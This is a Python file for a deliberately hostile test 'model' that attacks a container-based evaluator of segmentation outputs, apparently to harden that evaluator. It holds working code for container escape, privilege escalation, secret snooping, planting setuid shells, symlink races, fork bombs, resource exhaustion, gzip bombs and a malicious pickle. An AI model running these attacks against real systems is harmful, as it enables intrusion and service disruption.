"""A hostile model: each request names by its target what the model does. Runs in a container.

It speaks contract 1 itself, so that it can break it. ``ATTACKS`` holds what it can do; all else is
answered honestly: the voxel of the prompt's point and its neighbours are 1.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import gzip
import io
import json
import os
import pickle
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
from zoo_sdk import nifti

#: what no container may see, written backwards, so that this file does not hold it
CANARY = "f7a1c3-yranac-dmu"[::-1].encode()
MIB = 2**20
REPLIES = os.fdopen(os.dup(1), "wb", buffering=0)
LIBC = ctypes.CDLL(None, use_errno=True)


class Request:
    """A request, and the usual ways to answer it."""

    def __init__(self, name):
        self.id = name
        body = json.loads(Path("/input/requests", name + ".json").read_text())
        (self.target,) = body["targets"]
        self.attack = self.target["name"]
        self.shape = tuple(body["grid"]["shape"])
        self.affine = body["grid"]["affine"]
        self.folder = Path("/output", name)
        self.file = self.folder / (self.attack + ".nii.gz")

    def mask(self):
        mask = np.zeros(self.shape, np.uint8)
        for point in self.target["points"]:
            i, j, k = point["index"]
            mask[max(i - 1, 0) : i + 2, max(j - 1, 0) : j + 2, max(k - 1, 0) : k + 2] = 1
        return mask

    def write(self, data=None, shape=None, affine=None, letter="B"):
        """Write the mask's file: any numbers of any type on any grid."""
        self.folder.mkdir(exist_ok=True)
        data = self.mask().tobytes(order="F") if data is None else data
        nifti.write(self.file, shape or self.shape, affine or self.affine, letter, data)

    def body(self, **more):
        return {"id": self.id, "targets": {self.attack: {"status": "ok"}}, **more}

    def say(self, **more):
        say(json.dumps(self.body(**more)))


def say(line):
    """Write a line to the evaluator, and for a batch, the file."""
    REPLIES.write((line if isinstance(line, bytes) else line.encode()) + b"\n")


def attempt(action):
    """What came of it: "done", or the system's reason why not."""
    try:
        result = action()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
    except Exception as error:
        return type(error).__name__
    return "done" if result is None else str(result)[:200]


def call(number, *arguments):
    """A system call by its number on x86-64."""
    ctypes.set_errno(0)
    if LIBC.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")


# --- reading -----------------------------------------------------------------------------------


def holds(content):
    """Whether bytes hold the canary, packed or not, forwards or backwards."""
    for text in (CANARY, CANARY[::-1], CANARY.upper()):
        if text in content:
            return True
    if content[:2] == b"\x1f\x8b":
        with contextlib.suppress(Exception):
            return holds(gzip.GzipFile(fileobj=io.BytesIO(content)).read(64 * MIB))
    return False


def search(roots):
    """Names and contents with the canary below some folders, and how much was read."""
    hits, read = [], 0
    for root in roots:
        for folder, folders, files in os.walk(root):
            folders[:] = [name for name in folders if folder != "/" or name not in ("proc", "sys")]
            for name in (*files, *folders):
                path = os.path.join(folder, name)
                if CANARY in os.fsencode(path):
                    hits.append(path)
            for name in files:
                path = os.path.join(folder, name)
                with contextlib.suppress(OSError, ValueError):
                    status = os.lstat(path)
                    if stat.S_ISREG(status.st_mode):
                        with open(path, "rb") as file:
                            content = file.read(64 * MIB)
                        read += 1
                        if holds(content):
                            hits.append(path)
    return {"hits": hits, "read": read}


def snoop(request):
    """Read everything that can be read, and the environment."""
    # the packages are those of the base image, which every model has
    roots = ["/input", "/output", "/opt/model", "/opt/ml", "/tmp", "/etc", "/home", "/root", "/run"]
    roots += ["/dev", "/mnt", "/media", "/srv", "/var", "/data"]
    found = search(roots)
    found["hits"] += [name for name, text in os.environ.items() if holds(f"{name}={text}".encode())]
    request.write()
    request.say(notes=found)


def snoop_proc(request):
    """Read all of /proc and /sys that opens, and the attributes of files."""
    hits, read = [], 0
    names = ["mounts", "mountinfo", "environ", "cmdline", "maps", "status", "cgroup", "net/unix"]
    names += ["keys", "root/etc/hostname", "cwd", "fdinfo", "limits", "sched_debug"]
    paths = [f"/proc/{pid}/{name}" for pid in os.listdir("/proc") for name in names]
    paths += [f"/proc/{name}" for name in ("keys", "key-users", "partitions", "diskstats", "vmstat")]
    paths += ["/proc/kcore", "/proc/kallsyms", "/dev/mem", "/dev/kmsg", "/proc/timer_list"]
    paths += [str(path) for path in Path("/sys/fs/cgroup").glob("*")][:200]
    for path in paths:
        with contextlib.suppress(OSError, ValueError):
            with open(path, "rb", buffering=0) as file:
                os.set_blocking(file.fileno(), False)
                content = file.read(MIB) or b""
            read += 1
            if holds(content):
                hits.append(path)
    for path in Path("/input").rglob("*"):
        for name in os.listxattr(path):
            if holds(os.getxattr(path, name)):
                hits.append(f"{path} {name}")
    request.write()
    request.say(notes={"hits": hits, "read": read})


def guess_paths(request):
    """Open references where they might be: beside the input, by the mount table, through /proc."""
    tables = Path("/proc/self/mountinfo").read_text()
    sources = [line.split()[3] for line in tables.splitlines()]
    guesses = ["/references", "/input/../references", "/input/references", "/reference", "/labels"]
    guesses += ["/opt/ml/input/data/ground_truth", "/workspace", "/data", "/mnt", "/host", "/work"]
    guesses += [source for source in sources if source not in ("/", "/input")]
    for pid in ("1", "self", str(os.getppid())):
        guesses += [f"/proc/{pid}/root/work", f"/proc/{pid}/cwd/..", f"/proc/{pid}/root/../.."]
        for number in range(20):
            guesses.append(f"/proc/{pid}/fd/{number}/..")
    found = {"hits": [], "read": 0}
    for guess in dict.fromkeys(guesses):
        if os.path.realpath(guess) not in ("/", "/proc"):
            part = search([guess])
            found["hits"] += part["hits"]
            found["read"] += part["read"]
    request.write()
    request.say(notes=found)


def engine_socket(request):
    """Reach the engine or another service by a socket."""
    notes = {}
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                 "/run/podman/podman.sock", "\0/containerd-shim", "/run/dbus/system_bus_socket"):
        notes["unix " + path.replace("\0", "@")] = attempt(
            lambda: socket.socket(socket.AF_UNIX).connect(path)
        )
    table = Path("/proc/net/unix").read_text().splitlines()[1:]
    notes["abstract"] = "done" if any("@" in line for line in table) else "none"
    notes["vsock"] = attempt(lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 22)))
    notes["raw"] = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    notes["packet"] = attempt(lambda: socket.socket(17, socket.SOCK_RAW))
    request.write()
    request.say(notes=notes)


def network(request):
    """Reach anything by the network."""
    def tcp(host, port):
        return attempt(lambda: socket.create_connection((host, port), 1).close())

    notes = {f"tcp {host}": tcp(host, port) for host, port in (
        ("1.1.1.1", 53), ("169.254.169.254", 80), ("172.17.0.1", 2375), ("10.0.2.2", 22),
        ("::ffff:1.1.1.1", 53), ("fe80::1", 80), ("127.0.0.1", 2375),
    )}
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    notes["udp"] = attempt(lambda: udp.sendto(CANARY, ("8.8.8.8", 53)) and None)
    notes["dns"] = attempt(lambda: socket.getaddrinfo("example.com", 80))
    request.write()
    request.say(notes=notes)


# --- rights ------------------------------------------------------------------------------------


def rights(request):
    """Take rights: mounts, namespaces, other users, keys, programs of the kernel."""
    here = ctypes.create_string_buffer(b"/tmp")
    none = ctypes.c_char_p(None)
    notes = {
        "mount": attempt(lambda: call(165, b"none", here, b"tmpfs", 0, none)),
        "remount": attempt(lambda: call(165, none, b"/input", none, 32 | 4096, none)),
        "umount": attempt(lambda: call(166, b"/input", 2)),
        "unshare": attempt(lambda: os.unshare(0x10000000) if hasattr(os, "unshare")
                           else call(272, 0x10000000)),
        "chroot": attempt(lambda: os.chroot("/tmp")),
        "setuid": attempt(lambda: os.setuid(0)),
        "setgroups": attempt(lambda: os.setgroups([0])),
        "bpf": attempt(lambda: call(321, 0, 0, 0)),
        "add_key": attempt(lambda: call(248, b"user", b"a", b"b", 1, -4)),
        "keyctl": attempt(lambda: call(250, 0, -5, 0)),
        "userfaultfd": attempt(lambda: call(323, 0)),
        "perf": attempt(lambda: call(298, 0, 0, -1, -1, 0)),
        "open_by_handle": attempt(lambda: call(304, -100, 0, 0)),
        "kexec": attempt(lambda: call(246, 0, 0, 0, 0)),
        "reboot": attempt(lambda: call(169, 0xFEE1DEAD, 672274793, 0x89ABCDEF, 0)),
        "settime": attempt(lambda: time.clock_settime(time.CLOCK_REALTIME, 0)),
        "nice": attempt(lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)),
        "sysctl": attempt(lambda: Path("/proc/sys/kernel/hostname").write_text("evil")),
        "cgroup": attempt(lambda: Path("/sys/fs/cgroup/memory.max").write_text("max")),
        "release_agent": attempt(
            lambda: Path("/sys/fs/cgroup/memory/release_agent").write_text("/x")
        ),
        "core_pattern": attempt(lambda: Path("/proc/sys/kernel/core_pattern").write_text("|/x")),
        "mknod": attempt(lambda: os.mknod("/tmp/sda", stat.S_IFBLK | 0o666, os.makedev(8, 0))),
        "mknod output": attempt(
            lambda: os.mknod("/output/null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
        ),
    }
    request.write()
    request.say(notes=notes)


def ptrace(request):
    """Look into other processes, and send signals to them."""
    notes = {"seen": [int(name) for name in os.listdir("/proc") if name.isdigit()]}
    notes["others"] = [pid for pid in notes["seen"] if pid not in (1, os.getpid())]
    notes["kill 0"] = attempt(lambda: os.kill(99999, signal.SIGKILL))
    notes["ptrace"] = attempt(lambda: call(101, 16, os.getppid() or 1, 0, 0))
    request.write()
    request.say(notes=notes)


def write_input(request):
    """Change what other requests get."""
    notes = {
        "new": attempt(lambda: Path("/input/x").write_text("x")),
        "request": attempt(lambda: Path("/input/requests/r.json").write_text("{}")),
        "unlink": attempt(lambda: next(Path("/input/images").iterdir()).unlink()),
        "chmod": attempt(lambda: os.chmod("/input", 0o777)),
        "utime": attempt(lambda: os.utime("/input")),
        "root": attempt(lambda: Path("/opt/model/x").write_text("x")),
        "etc": attempt(lambda: Path("/etc/ld.so.preload").write_text("/tmp/x.so")),
    }
    request.write()
    request.say(notes=notes)


def set_user_id(request):
    """Leave programs that would run as their owner on the host."""
    request.write()
    for place in ("/output/sh", str(request.folder / "sh"), "/tmp/sh"):
        with open("/bin/sh", "rb") as source, open(place, "wb") as copy:
            copy.write(source.read())
        os.chmod(place, 0o6777)
    os.chmod(request.file, 0o6777)
    request.say()


# --- what lies in /output ------------------------------------------------------------------------


def linked(target):
    def act(request):
        request.folder.mkdir(exist_ok=True)
        os.symlink(target, request.file)
        request.say()

    return act


def link_to_earlier(request):
    """Give the answer of an earlier request, by a link."""
    request.folder.mkdir(exist_ok=True)
    earlier = [path for path in Path("/output").rglob("*.nii.gz") if path.is_file()]
    os.symlink(earlier[0] if earlier else "/output/none/liver.nii.gz", request.file)
    request.say()


def link_folder(request):
    """The folder of the answer is a link."""
    os.mkdir("/tmp/answers")
    os.symlink("/tmp/answers", request.folder)
    request.write()
    request.say()


def link_to_host(request):
    """The folder of the answer leads to a place that exists on the host too."""
    os.symlink("/etc", request.folder)
    request.say()


def hard_link(request):
    """Two names of one file, one of which can be changed while the other is read."""
    request.write()
    os.link(request.file, "/output/second-name")
    request.say()


def fifo(request):
    """A pipe, at which a reader would wait for ever."""
    request.folder.mkdir(exist_ok=True)
    os.mkfifo(request.file)
    request.say()


def socket_file(request):
    """A socket in the place of a mask."""
    request.folder.mkdir(exist_ok=True)
    os.chdir(request.folder)
    socket.socket(socket.AF_UNIX).bind(request.file.name)
    request.say()


def folder(request):
    """A folder in the place of a mask."""
    request.file.mkdir(parents=True)
    request.say()


def device(request):
    """A device in the place of a mask."""
    request.folder.mkdir(exist_ok=True)
    note = attempt(lambda: os.mknod(request.file, stat.S_IFCHR | 0o666, os.makedev(1, 5)))
    request.say(notes={"mknod": note})


def sparse(request):
    """A file that is large and takes no space."""
    request.folder.mkdir(exist_ok=True)
    with open(request.file, "wb") as file:
        file.write(b"\x1f\x8b")
        file.truncate(60 * MIB)
    request.say()


def huge_file(request):
    """Write until the disk is full."""
    request.write()
    block = bytes(MIB)
    with contextlib.suppress(OSError), open("/output/huge", "wb") as file:
        while True:
            file.write(block)
    request.say()


def reserved(request):
    """Reserve space without writing."""
    request.write()
    for number in range(64):
        with contextlib.suppress(OSError), open(f"/output/r{number}", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 16 * MIB)
    request.say()


def unlinked(request):
    """Write to a file without a name."""
    request.write()
    with open("/output/hidden", "wb") as file:
        os.unlink("/output/hidden")
        with contextlib.suppress(OSError):
            while True:
                file.write(bytes(MIB))
        request.say()
        time.sleep(2)


def many_files(request):
    """Use up the inodes of the disk."""
    request.write()
    with contextlib.suppress(OSError):
        for number in range(300_000):
            os.close(os.open(f"/output/f{number}", os.O_CREAT | os.O_WRONLY))
    request.say()


def deep_folders(request):
    """Folders deeper than any path."""
    request.write()
    for _ in range(2000):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/tmp")
    request.say()


def locked_folder(request):
    """Folders that their reader cannot list or remove."""
    request.write()
    os.mkdir("/output/locked")
    Path("/output/locked/x").write_bytes(bytes(MIB))
    os.chmod("/output/locked", 0)
    request.say()


def names(request):
    """Names with every trick: bytes that are no text, controls, formulas, cases, lengths."""
    request.write()
    for name in (b"\xff\xfe", b"\x1b[2J", "\u202egpj.exe".encode(), b"=1+1", b"-rf", b"a" * 255,
                 b"new\nline", b"LIVER.nii.gz", b"liver.nii.gz", "\u00c5".encode(),
                 "A\u030a".encode(), b"con", b"..."):
        with open(b"/output/" + name, "wb"), contextlib.suppress(OSError):
            Path(os.fsdecode(bytes(request.folder) + b"/" + name)).write_bytes(b"x")
    request.say()


# --- what is said ------------------------------------------------------------------------------


def exit_without_answer(request):
    os._exit(0)


def exit_137(request):
    """Claim to have been killed by the system."""
    os._exit(137)


def kill_itself(request):
    os.kill(os.getpid(), signal.SIGSEGV)


def raw_reply(make):
    def act(request):
        request.write()
        body = make(request)
        say(body)
        Path(request.folder, "reply.json").write_bytes(
            body if isinstance(body, bytes) else body.encode()
        )

    return act


def two_replies(request):
    """Answer the next request before it is asked."""
    request.write()
    request.say()
    following = "r%05d%s" % (int(request.id[1:6]) + 1, request.id[6:])
    say(json.dumps({"id": following, "targets": {}}))


def timing_lies(request):
    """Work long and claim to be quick, with the clock turned back in between."""
    request.write()
    attempt(lambda: time.clock_settime(time.CLOCK_REALTIME, 0))
    time.sleep(1.0)
    request.say(seconds={"total": 1e-9, "infer": 0.0})


def escapes(request):
    """Escape sequences, titles, links, bidirectional controls and lone surrogates in all texts."""
    text = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil\x07\u202eliver\x9b31m\ud800=1+1"
    os.write(2, text.encode("utf-8", "surrogatepass") + b"\xff\xfe\n")
    request.write()
    target = {"status": "error", "kind": text, "message": text}
    say(json.dumps({"id": request.id, "targets": {request.attack: target}, "notes": {text: text}}))


def flood_stdout(request):
    """A line without an end."""
    request.write()
    for _ in range(300):
        REPLIES.write(b"x" * MIB)
    request.say()


def flood_lines(request):
    """Lines that are no replies, one after another."""
    request.write()
    for _ in range(200_000):
        REPLIES.write(b"{}\n" * 20)
    request.say()


def flood_stderr(request):
    """A log that fills the host's disk."""
    request.write()
    for _ in range(64):
        os.write(2, b"noise " * 20_000 + b"\n")
    request.say()


def closed_stdout(request):
    """Close the way to the evaluator and go on."""
    REPLIES.close()
    os.close(1)
    time.sleep(3600)


# --- what is taken -------------------------------------------------------------------------------


def spin(request):
    """Take all cores for ever."""
    for _ in range(os.cpu_count() or 1):
        if os.fork() == 0:
            while True:
                pass
    while True:
        pass


def ignore_signals(request):
    """Sleep for ever and ignore every signal that can be ignored."""
    for number in range(1, 65):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(3600)


def stopped(request):
    """Stop as if it worked."""
    os.kill(os.getpid(), signal.SIGSTOP)
    time.sleep(3600)


def daemon(request):
    """Leave a process behind that outlives the request, in a session of its own."""
    code = (
        "import os,time\n"
        "os.setsid()\n"
        "while True:\n"
        "    open('/output/left-behind','a').write('x'); time.sleep(0.05)\n"
    )
    if os.fork() == 0:
        os.setsid()
        subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
        os._exit(0)
    os.wait()
    request.write()
    request.say()


def fork_bomb(request):
    """Fork until nothing can be started, then answer."""
    for _ in range(3000):
        try:
            if os.fork() == 0:
                time.sleep(3600)
        except OSError as error:
            request.write()
            request.say(notes={"fork": errno.errorcode[error.errno]})
            return
    request.say()


def threads(request):
    """Start threads until nothing can be started, then answer."""
    wait = threading.Event()
    started = 0
    with contextlib.suppress(RuntimeError):
        while started < 3000:
            threading.Thread(target=wait.wait, daemon=True).start()
            started += 1
    request.write()
    wait.set()
    request.say(notes={"threads": started})


def memory(request):
    hog = []
    while True:
        hog.append(bytearray(os.urandom(MIB) * 16))


def shared_memory(request):
    """Fill /dev/shm and /tmp, which count as memory."""
    for place in ("/dev/shm/x", "/tmp/x"):
        with contextlib.suppress(OSError), open(place, "wb") as file:
            while True:
                file.write(b"x" * MIB)
    request.write()
    request.say()


def huge_environment(request):
    """Programs with environments of megabytes."""
    environment = {f"V{number}": "x" * 100_000 for number in range(19)}
    note = attempt(lambda: subprocess.run(["/bin/true"], env=environment, check=True) and None)
    os.environ.update(environment)
    request.write()
    request.say(notes={"started": note})


def open_files(request):
    """Open files until no more can be opened."""
    held = []
    with contextlib.suppress(OSError):
        while len(held) < 100_000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    count = len(held)
    for number in held:
        os.close(number)
    request.write()
    request.say(notes={"open": count})


def limits(request):
    """Raise its own limits."""
    names = ("RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE")
    notes = {}
    for name in names:
        number = getattr(resource, name)
        most = resource.getrlimit(number)[1]
        notes[name] = attempt(lambda: resource.setrlimit(number, (most + 1, most + 1)))
    request.write()
    request.say(notes=notes)


# --- what masks hold ----------------------------------------------------------------------------


def numbers(letter, kind, value):
    def act(request):
        data = np.full(request.shape, value, kind)
        data.flat[0] = 0
        request.write(data.tobytes(order="F"), letter=letter)
        request.say()

    return act


def header(change, packed=True):
    """A file whose header is changed."""

    def act(request):
        request.write()
        raw = bytearray(gzip.decompress(request.file.read_bytes()))
        change(raw)
        request.file.write_bytes(gzip.compress(bytes(raw), 1) if packed else bytes(raw))
        request.say()

    return act


def put(offset, form, *values):
    return lambda raw: struct.pack_into(form, raw, offset, *values)


def cut(raw):
    del raw[len(raw) // 2 :]


def gzip_bomb(request):
    """A small file that unpacks to a gigabyte."""
    request.write()
    with gzip.GzipFile(request.file, "ab", 9) as file:
        for _ in range(256):
            file.write(bytes(4 * MIB))
    request.say()


def other_file(content):
    def act(request):
        request.folder.mkdir(exist_ok=True)
        request.file.write_bytes(content() if callable(content) else content)
        request.say()

    return act


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/umd-hostile-pickle",))


def pickled():
    buffer = io.BytesIO()
    array = np.empty(1, object)
    array[0] = Evil()
    np.savez(buffer, segs=array)
    return buffer.getvalue()


META_IMAGE = b"""ObjectType = Image
NDims = 3
DimSize = 14 12 10
ElementType = MET_UCHAR
ElementDataFile = /etc/passwd
"""


def write_after_reply(request):
    """Change the mask while it is read."""
    request.write()
    bad = gzip.compress(bytes(10 * MIB), 1)
    request.say()

    def race():
        end = time.monotonic() + 1.0
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                request.file.write_bytes(bad)
                request.write()

    threading.Thread(target=race, daemon=True).start()


def swap_for_link(request):
    """Exchange the mask for a link while it is looked at."""
    request.write()
    request.say()

    def race():
        end = time.monotonic() + 1.0
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                os.symlink("/etc/passwd", "/output/link")
                os.replace("/output/link", request.file)
                request.write()

    threading.Thread(target=race, daemon=True).start()


def change_earlier(request):
    """Change the answers of all earlier requests."""
    request.write()
    for path in Path("/output").rglob("*.nii.gz"):
        if path != request.file and path.is_file():
            ones = bytes([1]) * int(np.prod(request.shape))
            nifti.write(path, request.shape, request.affine, "B", ones)
    request.say()


def for_others(request):
    """Write answers into the folders of requests that are still to come."""
    request.write()
    for path in Path("/input/requests").glob("*.json"):
        place = Path("/output", path.stem)
        if path.stem != request.id:
            with contextlib.suppress(OSError):
                place.mkdir()
                (place / "reply.json").write_text(json.dumps({"id": path.stem}))
    request.say()


ATTACKS = {
    "snoop": snoop,
    "snoop-proc": snoop_proc,
    "guess-paths": guess_paths,
    "engine-socket": engine_socket,
    "network": network,
    "rights": rights,
    "ptrace": ptrace,
    "write-input": write_input,
    "set-user-id": set_user_id,
    "link-to-passwd": linked("/etc/passwd"),
    "link-to-device": linked("/dev/zero"),
    "link-to-itself": linked("link-to-itself.nii.gz"),
    "link-to-input": linked("/input/requests"),
    "link-to-earlier": link_to_earlier,
    "link-folder": link_folder,
    "link-to-host": link_to_host,
    "hard-link": hard_link,
    "fifo": fifo,
    "socket-file": socket_file,
    "folder": folder,
    "device": device,
    "sparse": sparse,
    "huge-file": huge_file,
    "reserved": reserved,
    "unlinked": unlinked,
    "many-files": many_files,
    "deep-folders": deep_folders,
    "locked-folder": locked_folder,
    "names": names,
    "exit-0": exit_without_answer,
    "exit-137": exit_137,
    "kill-itself": kill_itself,
    "no-json": raw_reply(lambda request: "ready when you are"),
    "json-deep": raw_reply(
        lambda request: '{"id": "%s", "notes": {"a": %s}}' % (request.id, "[" * 50000 + "]" * 50000)
    ),
    "json-number": raw_reply(lambda request: '{"id": "%s", "seconds": {"a": 1e999}}' % request.id),
    "json-nan": raw_reply(lambda request: '{"id": "%s", "seconds": {"a": NaN}}' % request.id),
    "json-digits": raw_reply(
        lambda request: '{"id": "%s", "gpu_peak_bytes": %s}' % (request.id, "9" * 100_000)
    ),
    "json-long": raw_reply(
        lambda request: json.dumps(request.body(notes={"a": "x" * 3_000_000}))
    ),
    "json-wide": raw_reply(
        lambda request: json.dumps(request.body(notes={str(n): n for n in range(100_000)}))
    ),
    "no-text": raw_reply(lambda request: b'{"id": "\xff\xfe\xc3\x28"}'),
    "other-id": raw_reply(lambda request: '{"id": "r00009s00k09", "targets": {}}'),
    "two-replies": two_replies,
    "timing-lies": timing_lies,
    "escapes": escapes,
    "flood-stdout": flood_stdout,
    "flood-lines": flood_lines,
    "flood-stderr": flood_stderr,
    "closed-stdout": closed_stdout,
    "spin": spin,
    "ignore-signals": ignore_signals,
    "stopped": stopped,
    "daemon": daemon,
    "fork-bomb": fork_bomb,
    "threads": threads,
    "memory": memory,
    "shared-memory": shared_memory,
    "huge-environment": huge_environment,
    "open-files": open_files,
    "limits": limits,
    "nan": numbers("f", np.float32, np.nan),
    "infinite": numbers("f", np.float32, np.inf),
    "half": numbers("f", np.float32, 0.5),
    "two": numbers("B", np.uint8, 2),
    "negative": numbers("h", np.int16, -1),
    "wrong-shape": lambda request: (request.write(bytes(1000), (10, 10, 10)), request.say()),
    "wrong-affine": lambda request: (
        request.write(affine=[[1, 0, 0, 0], [0, 1, 0, 0], [0, 0, 1, 0], [0, 0, 0, 1]]),
        request.say(),
    ),
    "huge-dims": header(put(40, "<4h", 3, 32767, 32767, 32767)),
    "seven-dims": header(put(40, "<8h", 7, 14, 12, 10, 1, 1, 1, 30000)),
    "negative-dims": header(put(40, "<4h", 3, -14, -12, 10)),
    "far-offset": header(put(108, "<f", 1e30)),
    "nan-offset": header(put(108, "<f", float("nan"))),
    "slope": header(put(112, "<2f", 0.0001, 3.0)),
    "other-type": header(put(70, "<2h", 1792, 128)),
    "pair-magic": header(put(344, "4s", b"ni1\0")),
    "not-packed": header(lambda raw: None, packed=False),
    "cut-short": header(cut),
    "gzip-bomb": gzip_bomb,
    "garbage": other_file(lambda: os.urandom(5000)),
    "empty-file": other_file(b""),
    "pickle": other_file(pickled),
    "meta-image": other_file(META_IMAGE),
    "write-after-reply": write_after_reply,
    "swap-for-link": swap_for_link,
    "change-earlier": change_earlier,
    "for-others": for_others,
}


def honest(request):
    request.write()
    request.say()


def main():
    say('{"ready": true, "contract": 1}')
    for line in sys.stdin:
        request = Request(line.strip())
        ATTACKS.get(request.attack, honest)(request)


if __name__ == "__main__":
    pickle.DEFAULT_PROTOCOL  # noqa: B018 - the module is needed by numpy
    main()
